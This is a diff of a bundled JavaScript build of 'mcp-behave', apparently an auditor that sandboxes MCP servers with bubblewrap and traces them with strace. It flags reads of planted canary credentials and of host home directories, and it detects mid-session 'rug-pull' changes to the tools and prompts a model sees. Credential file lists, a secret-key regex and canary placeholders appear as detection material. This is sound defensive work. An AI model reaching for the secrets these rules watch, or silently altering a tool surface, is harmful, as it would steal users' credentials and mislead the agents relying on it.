-            return `${(0,model/* surfaceLabel */.CR)(change.kind)} ${name} ${fields.length > 0 ? `${fields.join(', ')} changed` : 'changed'} ${when}`;
+        let read = reads.get(homePath);
+        if (!read) {
+            read = {
+                path: `${home}/${record.path}`,
+                homePath,
+                access: 'read',
+                via: CANARY_WATCH_VIA,
+                witness: 'canary-watch',
+                succeeded: true,
+                category: 'canary-home',
+                noise: false,
+                count: 0,
+                phases: [],
+                traceLines: []
+            };
+            reads.set(homePath, read);
         }
-        return `${(0,model/* surfaceLabel */.CR)(change.kind)} ${name} was ${change.change} ${when}`;
-    };
-    const push = (change, severity, message, phase, session, index, rule = 'rug-pull') => {
-        const item = `${change.kind}:${change.name}`;
-        out.push({
-            rule,
-            subject: `${session ? 'session ' : ''}${item}`,
-            severity,
-            message,
-            phase,
-            order: [0, index],
-            evidence: { manifestItems: [item] },
-            traceLines: []
-        });
-    };
-    if (rugPull.status === 'changed' || rugPull.status === 'accepted') {
-        const severity = rugPull.status === 'changed' ? 'high' : 'info';
-        const when = rugPull.status === 'changed' ? 'since the pinned manifest' : 'since the pinned manifest (accepted)';
-        rugPull.changes.forEach((change, i) => push(change, severity, describe(change, when), { kind: 'startup' }, false, i));
+        read.count += 1;
+        if (!read.phases.some((seen) => callKey(seen) === callKey(phase)))
+            read.phases.push(phase);
     }
-    rugPull.duringSession.forEach((change, i) => {
-        const phase = announcedAfter(change, listChanged);
-        const when = afterText(phase);
-        if (change.change === 'modified' || change.kind === 'instructions')
-            return push(change, 'high', describe(change, when), phase, true, i);
-        push(change, ...surfaceChange(change.kind, (0,neutralize/* excerpt */.Kb)(change.name), change.change === 'added', when), phase, true, i, 'surface-change');
-    });
-    return out;
+    return [...reads.values()];
 }
-/** Items added or removed mid-session: tools and prompts reach the model, resources are data. */
-function surfaceChange(kind, name, added, when) {
-    switch (kind) {
-        case 'tool':
-            return ['medium', added ? `registered a new tool ${name} ${when}` : `withdrew the tool ${name} ${when}`];
-        case 'prompt':
-            return ['medium', added ? `registered a new prompt ${name} ${when}` : `withdrew the prompt ${name} ${when}`];
-        default:
-            return ['info', `${(0,model/* surfaceLabel */.CR)(kind)} ${name} was ${added ? 'added' : 'removed'} ${when}`];
+
+;// CONCATENATED MODULE: ./src/profile/mcp-http-channel.ts
+// An HTTP server answers the auditor on the connections it accepted on its MCP port (relayed by the
+// sandbox init). Those writes are the MCP channel itself — the counterpart of a stdio server's stdout —
+// not behaviour: left in, every answer would show as traffic to the relay's loopback port.
+class McpHttpChannelFilter {
+    port;
+    constructor(port) {
+        this.port = port;
     }
-}
-
-;// CONCATENATED MODULE: ./src/rules/evaluate-rules.ts
-
-
-
-
-
-
-
-
-
-
-// Each family of rules lives in its own module (file-, network-, process-, leak-, io-uring-, rug-pull-
-// and host-containment-rules) and turns what it judges into occurrences through the shared Judge
-// (judge.ts); aggregate-findings.ts makes them findings.
-/** Declared scope (annotations, descriptions, policy) against the observed profile → findings. */
-function evaluateRules(input) {
-    const judge = new Judge(input);
-    const occurrences = [];
-    fileOccurrences(judge, occurrences);
-    networkOccurrences(judge, occurrences);
-    hostSocketOccurrences(judge, occurrences);
-    processOccurrences(judge, occurrences);
-    leftoverOccurrences(judge, occurrences);
-    leakOccurrences(judge, occurrences);
-    ioUringOccurrences(judge, occurrences);
-    occurrences.push(...rugPullOccurrences(input.rugPull, input.observed.listChanged));
-    occurrences.push(...behaviourOccurrences(input.behaviour, input.calls));
-    return aggregate(occurrences);
-}
-
-// EXTERNAL MODULE: ./src/version.ts
-var version = __nccwpck_require__(311);
-;// CONCATENATED MODULE: ./src/engine/run-remote-audit.ts
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-
-// A server known only by its URL: nothing of it runs here, so nothing is traced. What can be checked from
-// outside is what it declares — initialize, every listing (manifest, rug-pull pin against the last run,
-// a surface that changes between two listings), its server info. No tool is called: a call would act on
-// a real service, and what it did there could not be seen.
-const UNTRACED_REMOTE = 'a remote server reached by URL: nothing it did was observed; only its declared surface (manifest, rug-pull pin, server info) was checked';
-async function runRemoteAudit(settings, url, runtime) {
-    const { logger } = runtime;
-    const started = Date.now();
-    await (0,output_files/* prepareOutDir */.fW)(settings.outDir);
-    const files = { trace: (0,external_node_path_.join)(settings.outDir, 'trace.log'), manifest: (0,external_node_path_.join)(settings.outDir, 'manifest.json'), report: (0,external_node_path_.join)(settings.outDir, 'report.json') };
-    for (const path of [files.manifest, files.report])
-        await (0,output_files/* refuseNonRegular */.uA)(path);
-    // Nothing is traced: evidence an earlier run left in the out-dir must not pass for this server's.
-    for (const stale of [files.trace, (0,external_node_path_.join)(settings.outDir, 'network.jsonl'), (0,external_node_path_.join)(settings.outDir, 'changes.tar')])
-        await (0,promises_.rm)(stale, { force: true });
-    logger.info(`remote server ${url}: nothing is traced; only its declared surface is checked`);
-    let probe;
-    let incomplete;
-    let transport = null;
-    try {
-        probe = await probeServer({
-            // The session's own cap and accounting of oversized answers, as for a started server.
-            transport: (hooks) => {
-                transport = new RemoteHttpTransport({ flavour: settings.http.flavour, url: new URL(url) }, { maxMessageBytes: MAX_MESSAGE_BYTES, onOversized: (bytes) => hooks.onOversized(bytes) });
-                return transport;
-            },
-            rootDir: (0,external_node_path_.resolve)(settings.cwd),
-            timeoutMs: settings.timeoutMs,
-            initializeTimeoutMs: Math.max(2 * settings.timeoutMs, 5_000),
-            callsPerTool: 0,
-            logger,
-            ...(runtime.signal ? { signal: runtime.signal } : {})
-        });
+    /** Whether `event` goes on to the profile: everything but sends on a connection accepted on the MCP port. */
+    keep(event) {
+        if (event.type !== 'send')
+            return true;
+        const info = event.fd.info;
+        return !(info?.kind === 'socket' && info.protocol.startsWith('TCP') && info.local?.port === this.port);
     }
-    catch (error) {
-        if (!(error instanceof ProbeAborted)) {
-            if (error instanceof errors/* ProbeStartError */.d9) {
-                // The session knows only that the connection closed; the transport knows why.
-                const lastError = transport?.lastError;
-                const why = lastError ? `cannot reach the server: ${lastError}` : error.message;
-                throw new errors/* ProbeStartError */.d9(`${url}: ${why}`, '', null);
-            }
-            throw error;
-        }
-        probe = error.partial;
-        incomplete = 'interrupted before the audit finished';
-    }
-    if (!probe.shutdownAt)
-        probe.shutdownAt = Date.now();
-    const manifest = buildManifest(probe.listing, probe.instructions);
-    await (0,output_files/* writeOutputFile */.BF)(files.manifest, JSON.stringify(manifest, null, 2) + '\n');
-    const { identity } = settings;
-    const pin = incomplete ? null : await compareWithPin(new PinStore(settings.stateDir), identity, manifest, settings.acceptManifest);
-    if (pin?.error)
-        logger.warn(`manifest pin: ${pin.error}`);
-    const rugPull = {
-        ...(pin?.rugPull ?? { status: 'new', identity, currentSha256: manifest.sha256, changes: [] }),
-        duringSession: sessionChanges(probe.listing, probe.relisting)
-    };
-    // An empty profile: the rules that judge behaviour find nothing, the rug-pull rule still judges the surface.
-    const observed = new ProfileBuilder({
-        calls: [],
-        shutdownAt: probe.shutdownAt,
-        home: '/nonexistent',
-        cwd: settings.cwd,
-        canaries: [],
-        serverCodeRoots: [],
-        runtimeRoots: []
-    }).finish({
-        lines: 0,
-        events: 0,
-        unparsed: 0,
-        unparsedSamples: []
-    });
-    // Nothing is called, so only what kept the surface from being listed (a failed or cut listing) is a
-    // coverage gap: a remote server whose tools/list fails must not pass with an empty manifest.
-    const coverage = { items: [], gaps: probe.gaps };
-    const findings = [
-        ...evaluateRules({ observed, manifest, calls: probe.calls, policy: settings.policy, rugPull, home: '/nonexistent', cwd: settings.cwd }),
-        ...coverageFindings(coverage)
-    ];
-    const { exitCode } = (0,report_verdict/* decideVerdict */.AU)({ findings, failOn: settings.failOn, incomplete: incomplete ?? null, interrupted: runtime.signal?.aborted === true });
-    const report = {
-        schemaVersion: 1,
-        auditor: { name: 'mcp-behave', version: version/* AUDITOR_VERSION */.w },
-        server: {
-            command: [],
-            transport: settings.http.flavour,
-            url,
-            untraced: UNTRACED_REMOTE,
-            identity,
-            info: probe.serverInfo,
-            ...(probe.protocolVersion ? { protocolVersion: probe.protocolVersion } : {})
-        },
-        sandbox: { network: 'host', method: 'none', failOn: settings.failOn },
-        startedAt: new Date(started).toISOString(),
-        durationMs: Date.now() - started,
-        ...(incomplete ? { incomplete } : {}),
-        manifest,
-        calls: probe.calls,
-        coverage,
-        observed,
-        findings,
-        rugPull,
-        summary: (0,model/* summarize */.eh)(findings),
-        exitCode
-    };
-    await (0,output_files/* writeReportFile */.aS)(files.report, report, logger);
-    return { report, files };
-}
-
-;// CONCATENATED MODULE: ./src/probe/workspace-seed.ts
-
-
-
-// A small realistic project for tools to work on: the server's working directory holds it (in the
-// copy-on-write view, where the server's changes never reach the user's checkout), so a `read_file`
-// has a file to read, a `list_directory` a directory to list and a `git_log` commits to show.
-// Files the user's directory already has are left as they are (see sandbox/workspace-view.ts).
-const PNG_1X1 = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
-const FILES = {
-    'README.md': '# notes-app\n\nA small note-taking app.\n\n## Usage\n\nRun `npm start` and open the app.\n',
-    'notes.txt': 'Buy milk\nCall Alex about the release\nReview the pull request\n',
-    'package.json': JSON.stringify({ name: 'notes-app', version: '1.0.0', private: true, scripts: { start: 'node src/index.js' } }, null, 2) + '\n',
-    'data/contacts.csv': 'name,email,city\nAlex,alex@example.com,Berlin\nSam,sam@example.com,Lisbon\n',
-    'data/config.json': JSON.stringify({ theme: 'light', pageSize: 20 }, null, 2) + '\n',
-    'docs/guide.md': '# Guide\n\nNotes are saved as Markdown files.\n',
-    'docs/images/logo.png': Buffer.from(PNG_1X1, 'base64'),
-    'src/index.js': "console.log('notes-app')\n"
-};
-const SECOND_COMMIT = { 'CHANGELOG.md': '# Changelog\n\n## 1.0.0\n\n- First release\n' };
-function seedListing() {
-    const text = { ...FILES, ...SECOND_COMMIT };
-    const files = Object.keys(text).filter((path) => typeof text[path] === 'string');
-    const dirs = [
-        '.',
-        ...new Set(Object.keys(FILES)
-            .filter((path) => path.includes('/'))
-            .map((path) => (0,external_node_path_.dirname)(path)))
-    ];
-    const firstLines = Object.fromEntries(files.map((path) => [path, String(text[path]).split('\n')[0]]));
-    return { files, dirs, firstLines };
-}
-// The history, in the order `git commit` would have made it: one `git fast-import` writes every commit
-// and ref at once (a pack, as a clone has) where a commit per process took a dozen git processes and most
-// of the audit's setup time.
-const HISTORY = [
-    { branch: 'main', message: 'Initial commit', files: FILES },
-    { branch: 'main', message: 'Add a changelog', files: SECOND_COMMIT },
-    { branch: 'feature', from: 'main', message: 'Describe the search feature', files: { 'docs/feature.md': '# Feature\n\nSearch across notes.\n' } }
-];
-const AUTHOR = 'Alex Doe <alex@example.com> 1704110400 +0000';
-function fastImportStream() {
-    const parts = [];
-    const text = (line) => parts.push(Buffer.from(line, 'utf8'));
-    const data = (content) => {
-        const bytes = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
-        text(`data ${bytes.length}\n`);
-        parts.push(bytes, Buffer.from('\n'));
-    };
-    const tips = new Map();
-    HISTORY.forEach((commit, index) => {
-        const mark = index + 1;
-        text(`commit refs/heads/${commit.branch}\nmark :${mark}\nauthor ${AUTHOR}\ncommitter ${AUTHOR}\n`);
-        data(`${commit.message}\n`);
-        const parent = tips.get(commit.branch) ?? (commit.from ? tips.get(commit.from) : undefined);
-        if (parent !== undefined)
-            text(`from :${parent}\n`);
-        for (const [path, content] of Object.entries(commit.files)) {
-            text(`M 100644 inline ${path}\n`);
-            data(content);
-        }
-        tips.set(commit.branch, mark);
-    });
-    // What `git fetch origin` from the repository itself leaves: the remote-tracking branches.
-    for (const [branch, mark] of tips)
-        text(`reset refs/remotes/origin/${branch}\nfrom :${mark}\n\n`);
-    return Buffer.concat(parts);
-}
-/** A value for .git/config as `git config` writes it: quoted only when it must be to read back as itself. */
-function configValue(value) {
-    if (/^[^\s"\\;#]([^"\\;#\n\t]*[^\s"\\;#])?$/.test(value))
-        return value;
-    return `"${value.replace(/\\/g, '\\\\').replace(/"/g, '\\"').replace(/\n/g, '\\n').replace(/\t/g, '\\t')}"`;
-}
-// Who commits, as a project's own config would say; an `origin` to pull from and push to that needs no
-// network: the repository itself, where the server will see it (its working directory), tracked by main.
-function projectConfig(shownAt) {
-    return [
-        '[user]',
-        '\tname = Alex Doe',
-        '\temail = alex@example.com',
-        '[pull]',
-        '\trebase = false',
-        '[remote "origin"]',
-        `\turl = ${configValue(shownAt)}`,
-        '\tfetch = +refs/heads/*:refs/remotes/origin/*',
-        '[branch "main"]',
-        '\tremote = origin',
-        '\tmerge = refs/heads/main',
-        ''
-    ].join('\n');
-}
-/**
- * Writes the seed tree into `dir` (empty), with a git repository of two commits on main and one on a
- * feature branch when git is installed and the history can be seen at `shownAt` (where the server will
- * see the tree: its working directory).
- */
-async function writeSeed(dir, shownAt, env) {
-    const checkedOut = { ...FILES, ...SECOND_COMMIT };
-    await Promise.all([...new Set(Object.keys(checkedOut).map((path) => (0,external_node_path_.dirname)((0,external_node_path_.join)(dir, path))))].map((path) => (0,promises_.mkdir)(path, { recursive: true })));
-    await Promise.all(Object.entries(checkedOut).map(([path, content]) => (0,promises_.writeFile)((0,external_node_path_.join)(dir, path), content, { mode: 0o644 })));
-    const gitEnv = { PATH: env.PATH ?? '/usr/bin:/bin', HOME: dir, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' };
-    const git = (args, input) => new Promise((resolve, reject) => {
-        const child = (0,external_node_child_process_namespaceObject.execFile)('git', args, { cwd: dir, env: gitEnv, timeout: 10_000 }, (error) => (error ? reject(error) : resolve()));
-        child.stdin?.on('error', () => undefined);
-        child.stdin?.end(input);
-    });
-    // The seed's files are shown only where the real directory has nothing (sandbox/workspace-view.ts): a
-    // working directory whose `.git` is a file or a link (a worktree, a submodule) keeps it, and a history
-    // made here would never be seen. A `.git` directory gets the seed's refs and objects it lacks.
-    const own = await (0,promises_.lstat)((0,external_node_path_.join)(shownAt, '.git')).catch(() => null);
-    if (own && !own.isDirectory())
-        return;
-    try {
-        // Every file the seed writes is copied into the view and removed with the run directory, a cost per
-        // file on every audit: no hook samples or description from git's template, and the objects kept in
-        // fast-import's one pack (below its unpack limit, 100 objects, it would write each one loose).
-        await git(['init', '-q', '-b', 'main', '--template=']);
-        await (0,promises_.appendFile)((0,external_node_path_.join)(dir, '.git', 'config'), projectConfig(shownAt));
-        await git(['-c', 'fastimport.unpackLimit=0', 'fast-import', '--quiet'], fastImportStream());
-        // The index of main's tree, so the checkout reads as clean.
-        await git(['read-tree', 'main']);
-    }
-    catch {
-        // No git here: the workspace is still a project, without history.
-    }
-}
-
-;// CONCATENATED MODULE: ./src/settings/data-file.ts
-
-
-
-/**
- * Reads a file the user wrote (a policy, a scenario): JSON for .json or content starting with `{`, YAML
- * otherwise. The YAML parser is loaded only then: most audits have no such file, and it would cost every
- * one's start. Errors name the file by its base name.
- */
-async function readDataFile(path, what) {
-    const file = (0,external_node_path_.basename)(path);
-    let text;
-    try {
-        text = await (0,promises_.readFile)(path, 'utf8');
-    }
-    catch (error) {
-        throw new errors/* ConfigurationError */.j1(`${file}: cannot read the ${what} file (${error.code ?? 'error'})`);
-    }
-    const json = (0,external_node_path_.extname)(path).toLowerCase() === '.json' || text.trimStart().startsWith('{');
-    try {
-        return json ? JSON.parse(text) : (await __nccwpck_require__.e(/* import() */ 815).then(__nccwpck_require__.t.bind(__nccwpck_require__, 8815, 19))).parse(text);
-    }
-    catch (error) {
-        throw new errors/* ConfigurationError */.j1(`${file}: not valid ${json ? 'JSON' : 'YAML'}: ${error instanceof Error ? error.message.split('\n')[0] : 'parse error'}`);
-    }
-}
-
-;// CONCATENATED MODULE: ./src/probe/scenario.ts
-
-
-
-
-// A scenario: the steps a maintainer knows reach their server's success paths (set the repository,
-// then commit), run first and in order, before the synthesized calls exercise everything else.
-// String values may hold placeholders filled in at run time: {workdir} (the server's working
-// directory), {home} (its HOME), {canary:NAME} (a planted fake credential, e.g. {canary:aws}).
-const Arguments = cli_schemas/* record */.g1P(cli_schemas/* string */.YjP(), cli_schemas/* unknown */.L5J());
-const Expect = cli_schemas/* enum */.k5n(['ok', 'error'], { error: "expected 'ok' or 'error'" });
-const StepSchema = cli_schemas/* strictObject */.rej({
-    name: cli_schemas/* string */.YjP({ error: 'each step needs a name (findings from the step are named by it)' }).min(1).max(200),
-    tool: cli_schemas/* string */.YjP().min(1).optional().describe('a tool to call'),
-    resource: cli_schemas/* string */.YjP().min(1).optional().describe('a resource URI to read'),
-    prompt: cli_schemas/* string */.YjP().min(1).optional().describe('a prompt to get'),
-    arguments: Arguments.optional().describe('tool or prompt arguments; strings may hold placeholders'),
-    expect: Expect.optional().describe('ok or error: a step that ends otherwise is reported (high)')
-})
-    .superRefine((step, ctx) => {
-    const targets = [step.tool, step.resource, step.prompt].filter((target) => target !== undefined);
-    if (targets.length !== 1)
-        ctx.addIssue({ code: 'custom', message: 'needs exactly one of tool, resource, prompt' });
-    if (step.resource !== undefined && step.arguments !== undefined)
-        ctx.addIssue({ code: 'custom', path: ['arguments'], message: 'a resource read takes no arguments' });
-});
-const ScenarioSchema = cli_schemas/* strictObject */.rej({
-    synthesize: cli_schemas/* boolean */.zMY({ error: 'expected true or false' }).default(true).describe('false: run only the steps, no synthesized calls'),
-    steps: cli_schemas/* array */.YOg(StepSchema, { error: 'expected a list of steps' }).min(1, 'at least one step').max(500, 'at most 500 steps')
-});
-function issuePath(path) {
-    return path
-        .map((part) => (typeof part === 'number' ? `[${part}]` : `.${String(part)}`))
-        .join('')
-        .replace(/^\./, '');
-}
-/** Validates a parsed scenario: one line per bad field, each naming it (`steps[2].expect: …`). */
-function parseScenario(data, file) {
-    const result = ScenarioSchema.safeParse(data);
-    if (result.success)
-        return result.data;
-    const lines = result.error.issues.slice(0, 20).map((issue) => {
-        const path = issuePath(issue.path);
-        const message = issue.code === 'unrecognized_keys' ? `unknown key ${issue.keys.map((key) => `'${key}'`).join(', ')}` : issue.message;
-        return `${file}: ${path ? `${path}: ` : ''}${message}`;
-    });
-    throw new errors/* ConfigurationError */.j1(lines.join('\n'));
-}
-/** Reads a scenario file: JSON for .json (or content starting with `{`), YAML otherwise. */
-async function loadScenario(path) {
-    const file = (0,external_node_path_.basename)(path);
-    const data = await readDataFile(path, 'scenario');
-    return parseScenario(data, file);
-}
-const PLACEHOLDER = /\{(workdir|home|canary:[A-Za-z0-9_.-]+)\}/g;
-/**
- * Fills {workdir}, {home} and {canary:NAME} in every string of the steps. `canaries` are the planted
- * ones by id (`~/.aws/credentials`, `env:GITHUB_TOKEN`): NAME picks the first whose id contains it.
- */
-function resolveSteps(scenario, values) {
-    const fill = (text) => text.replace(PLACEHOLDER, (_, key) => {
-        if (key === 'workdir')
-            return values.workdir;
-        if (key === 'home')
-            return values.home;
-        const name = key.slice('canary:'.length).toLowerCase();
-        const canary = values.canaries.find((candidate) => candidate.id.toLowerCase().includes(name));
-        if (!canary)
-            throw new errors/* ConfigurationError */.j1(`scenario: no canary matches {${key}} (planted: ${[...new Set(values.canaries.map((c) => c.id))].slice(0, 12).join(', ')})`);
-        return canary.value;
-    });
-    const deep = (value, depth) => {
-        if (typeof value === 'string')
-            return fill(value);
-        if (depth > 20)
-            return value;
-        if (Array.isArray(value))
-            return value.map((entry) => deep(entry, depth + 1));
-        if (typeof value === 'object' && value !== null)
-            return Object.fromEntries(Object.entries(value).map(([key, entry]) => [key, deep(entry, depth + 1)]));
-        return value;
-    };
-    return scenario.steps.map((step) => {
-        const kind = step.tool !== undefined ? 'tool' : step.resource !== undefined ? 'resource' : 'prompt';
-        const target = fill((step.tool ?? step.resource ?? step.prompt));
-        return {
-            name: step.name,
-            kind,
-            target,
-            ...(step.arguments ? { arguments: deep(step.arguments, 0) } : {}),
-            ...(step.expect ? { expect: step.expect } : {})
-        };
-    });
-}
-/** Names the scenario step on every finding attributed to a call a step made. */
-function nameSteps(findings, calls) {
-    for (const finding of findings) {
-        if (finding.phase.kind !== 'call')
-            continue;
-        const step = calls[finding.phase.call.id]?.step;
-        if (step === undefined)
-            continue;
-        finding.phase.call.step = step;
-        finding.message = `${finding.message} (scenario step "${step}")`;
-    }
-}
-
-;// CONCATENATED MODULE: ./src/sandbox/find-on-path.ts
-
-
-/**
- * The first executable regular file named `name` in the directories of `path`, as `command -v` in a
- * shell would find it, without starting one; null when there is none.
- */
-function findOnPath(name, path) {
-    for (const dir of path.split(external_node_path_.delimiter)) {
-        if (!dir)
-            continue;
-        const candidate = (0,external_node_path_.join)(dir, name);
-        try {
-            (0,external_node_fs_.accessSync)(candidate, external_node_fs_.constants.X_OK);
-            if ((0,external_node_fs_.statSync)(candidate).isFile())
-                return candidate;
-        }
-        catch {
-            // next
-        }
-    }
-    return null;
-}
-
-;// CONCATENATED MODULE: ./src/probe/strace-command.ts
-
-
-
-// Files (including in-kernel copies and file handles, which read a file without opening it by name), network, processes and io_uring: what the profile needs and nothing more, so that
-// --seccomp-bpf can leave every other syscall untraced (measured here: ~2x overhead without it,
-// ~1.1x with it). A `?` prefix keeps strace quiet about syscalls an architecture lacks (open on arm64).
-const TRACED_SYSCALLS = [
-    '?open',
-    'openat',
-    '?openat2',
-    '?creat',
-    '?rename',
-    'renameat',
-    '?renameat2',
-    '?unlink',
-    'unlinkat',
-    '?rmdir',
-    '?mkdir',
-    'mkdirat',
-    '?truncate',
-    'ftruncate',
-    '?link',
-    'linkat',
-    '?symlink',
-    'symlinkat',
-    'chdir',
-    'fchdir',
-    '?sendfile',
-    '?sendfile64',
-    'splice',
-    'tee',
-    'copy_file_range',
-    'name_to_handle_at',
-    'open_by_handle_at',
-    'socket',
-    'connect',
-    'bind',
-    'sendto',
-    'sendmsg',
-    'sendmmsg',
-    'write',
-    'writev',
-    'execve',
-    'execveat',
-    'clone',
-    '?clone3',
-    '?fork',
-    '?vfork',
-    'setsid',
-    '?io_uring_setup'
-];
-/** Long enough for a whole DNS packet and a readable prefix of any payload. */
-const STRING_LIMIT = 4096;
-function buildStraceArgs(tracePath, info) {
-    return [
-        '-f',
-        '-ttt',
-        '-yy',
-        // -q, not -qq: the `+++ exited with N +++` / `+++ killed by SIG +++` lines say which processes
-        // outlived the server (see profile/leftovers.ts).
-        '-q',
-        '-s',
-        String(STRING_LIMIT),
-        ...(info.seccompBpf ? ['--seccomp-bpf'] : []),
-        ...(info.pidnsTranslation ? ['--pidns-translation'] : []),
-        '-e',
-        `trace=${TRACED_SYSCALLS.join(',')}`,
-        '-o',
-        tracePath
-    ];
-}
-const STRACE_HINT = 'Install strace (sudo apt-get install -y strace). In a container, strace needs ptrace: run with ' +
-    '--cap-add=SYS_PTRACE; on a host, check /proc/sys/kernel/yama/ptrace_scope.';
-// One probe per PATH and process: the audits of a fleet share it instead of each blocking the event loop
-// (which all of them share) with four synchronous runs.
-const detected = new Map();
-/** Finds strace on `searchPath` and whether it can filter with seccomp-bpf, by running it once on `true`. */
-function detectStrace(searchPath) {
-    const known = detected.get(searchPath);
-    if (known)
-        return known;
-    const info = probeStrace(searchPath);
-    detected.set(searchPath, info);
-    return info;
-}
-function probeStrace(searchPath) {
-    const path = findOnPath('strace', searchPath);
-    if (!path)
-        throw new errors/* SandboxSetupError */.Pr('strace was not found on PATH.', STRACE_HINT);
-    // One run asks for everything; only where it fails is each asked for alone, so the error says why.
-    const probe = (...flags) => (0,external_node_child_process_namespaceObject.spawnSync)(path, [...flags, '-f', '-qq', '-e', 'trace=openat', '-o', '/dev/null', 'true'], { stdio: 'ignore', timeout: 10_000 });
-    if (probe('--seccomp-bpf', '--pidns-translation').status === 0)
-        return { path, seccompBpf: true, pidnsTranslation: true };
-    const plain = (0,external_node_child_process_namespaceObject.spawnSync)(path, ['-f', '-qq', '-e', 'trace=openat', '-o', '/dev/null', 'true'], { encoding: 'utf8', timeout: 10_000 });
-    if (plain.status !== 0) {
-        throw new errors/* SandboxSetupError */.Pr(`strace cannot trace on this machine: ${(plain.stderr || '').trim().split('\n')[0] ?? ''}`, STRACE_HINT);
-    }
-    return { path, seccompBpf: probe('--seccomp-bpf').status === 0, pidnsTranslation: probe('--pidns-translation').status === 0 };
-}
-
-// EXTERNAL MODULE: ./src/sandbox/canary-home.ts
-var canary_home = __nccwpck_require__(8975);
-;// CONCATENATED MODULE: ./src/sandbox/containment-plan.ts
-
-
-// What the server sees of the machine, as plain data, and the bubblewrap command line that builds it.
-//
-// The view starts empty (bwrap's tmpfs root) and only what the server needs is mounted in: the system
-// directories read-only, a fresh /proc, a minimal /dev, private /tmp, /var/tmp and /dev/shm, the canary
-// home as the only home, and each workspace as a copy-on-write overlay at its real path. Everything else
-// of the host — real homes, /run and its daemon sockets, the runner's directories, the auditor's out-dir
-// and pin store, unusual top-level directories — simply does not exist in that view, so a read fails
-// with ENOENT and the attempt is still in the trace. The server runs in its own user namespace (as a
-// plausible uid 1000, no capabilities), pid namespace (it cannot see or signal strace, the auditor or
-// the sink) and session (no shared process group with the auditor).
-/** Top-level directories of the host that hold the system and are shown read-only. */
-const containment_plan_SYSTEM_DIRS = ['usr', 'bin', 'sbin', 'lib', 'lib32', 'lib64', 'libx32', 'etc', 'opt', 'var', 'srv', 'nix'];
-/** Where real users' files live: hidden, and a read there is an attempt on the host's secrets. */
-const HOST_HOME_ROOTS = ['/root', '/home'];
-/** Parts of /var that hold sockets, logs, container state or mail: hidden even though /var is shown. */
-const HIDDEN_VAR_DIRS = ['/var/run', '/var/log', '/var/lib/docker', '/var/lib/containerd', '/var/lib/kubelet', '/var/spool', '/var/mail', '/var/backups'];
-/**
- * Whether the host's `path` shows in the server's view (before the hidden-path tmpfs mounts). The private
- * temp dirs start empty: nothing of the host's /tmp shows through them.
- */
-function isVisibleInPlan(plan, path) {
-    const shownRoots = plan.rootEntries.filter((entry) => containment_plan_SYSTEM_DIRS.includes(entry.name)).map((entry) => `/${entry.name}`);
-    const writable = [...plan.workspaces, plan.home].map((mount) => mount.path);
-    if ([...writable, ...plan.exposed].some((root) => isUnder(path, root)))
-        return true;
-    if (plan.hiddenVarDirs.some((dir) => isUnder(path, dir)))
-        return false;
-    return shownRoots.some((root) => isUnder(path, root));
-}
-/** The bwrap options that build the view; the server's argv follows a `--`. */
-function buildBwrapArgs(plan) {
-    const args = [
-        '--die-with-parent',
-        '--new-session',
-        '--unshare-user',
-        '--uid',
-        String(plan.identity.uid),
-        '--gid',
-        String(plan.identity.gid),
-        '--unshare-pid',
-        '--unshare-ipc',
-        '--unshare-uts',
-        '--unshare-cgroup-try',
-        '--hostname',
-        plan.identity.hostname,
-        '--cap-drop',
-        'ALL'
-    ];
-    for (const entry of plan.rootEntries) {
-        if (!containment_plan_SYSTEM_DIRS.includes(entry.name))
-            continue;
-        if (entry.kind === 'dir')
-            args.push('--ro-bind', `/${entry.name}`, `/${entry.name}`);
-        else if (entry.kind === 'symlink' && entry.target !== undefined)
-            args.push('--symlink', entry.target, `/${entry.name}`);
-    }
-    args.push('--proc', '/proc', '--dev', '/dev');
-    if (plan.rootEntries.some((entry) => entry.name === 'sys' && entry.kind === 'dir'))
-        args.push('--ro-bind', '/sys', '/sys');
-    args.push('--tmpfs', '/run', '--tmpfs', '/home');
-    for (const dir of plan.hiddenVarDirs)
-        args.push('--tmpfs', dir);
-    for (const mount of plan.privateDirs)
-        args.push('--bind', mount.source, mount.path);
-    for (const path of plan.exposed)
-        args.push('--ro-bind', path, path);
-    for (const mount of plan.workspaces)
-        args.push('--bind', mount.source, mount.path);
-    args.push('--bind', plan.home.source, plan.home.path);
-    // Hidden last, so an out-dir inside a workspace is covered too; places the view does not show at all
-    // need no mount (bwrap would create an empty directory named after them, which a server could notice).
-    for (const path of plan.hidden)
-        if (isVisibleInPlan(plan, path))
-            args.push('--tmpfs', path);
-    for (const mount of plan.maskedFiles)
-        args.push('--ro-bind', mount.source, mount.path);
-    args.push('--chdir', plan.cwd);
-    return args;
-}
-/**
- * Read-only exposures a program at `file` needs when it sits under a hidden place: the install prefix
- * of an interpreter (`~/.pyenv` for a pyenv shim, `~/.nvm/versions/node/v20` for node), i.e. the
- * directory above its `bin`.
- */
-function installPrefixOf(file) {
-    const dir = external_node_path_.posix.dirname(file);
-    return external_node_path_.posix.basename(dir) === 'bin' || external_node_path_.posix.basename(dir) === 'shims' ? external_node_path_.posix.dirname(dir) : dir;
-}
-/** Drops entries of `paths` that lie under another entry, and duplicates. */
-function outermost(paths) {
-    const sorted = [...new Set(paths)].sort((a, b) => a.length - b.length || (a < b ? -1 : 1));
-    const kept = [];
-    for (const path of sorted)
-        if (!kept.some((root) => isUnder(path, root)))
-            kept.push(path);
-    return kept;
-}
-
-// EXTERNAL MODULE: ./src/sandbox/settle-all.ts
-var settle_all = __nccwpck_require__(3134);
-;// CONCATENATED MODULE: ./src/sandbox/workspace-view.ts
-
-
-
-
-const CREDENTIAL_FILES = new Set(['.git-credentials', '.npmrc', '.pypirc', '.env']);
-const SKIP_DIRS = new Set(['node_modules', '.git', '.venv', 'venv', '__pycache__', '.tox', 'dist', 'build']);
-const workspace_view_MAX_DEPTH = 3;
-const MAX_CREDENTIAL_FILE_BYTES = 256 * 1024;
-const SECRET_KEY = /(key|token|secret|passw|pwd|auth|credential|private|session|cookie|dsn|api)/i;
-const URL_USERINFO = /(\b[a-z][a-z0-9+.-]*:\/\/)[^/@\s:]+:[^/@\s]+@/gi;
-const URL_PASSWORD = /(\b[a-z][a-z0-9+.-]*:\/\/[^/@\s:]+:)([^/@\s]+)(@)/gi;
-const BASE62 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789';
-/** A fresh random value (base62) that becomes a canary. */
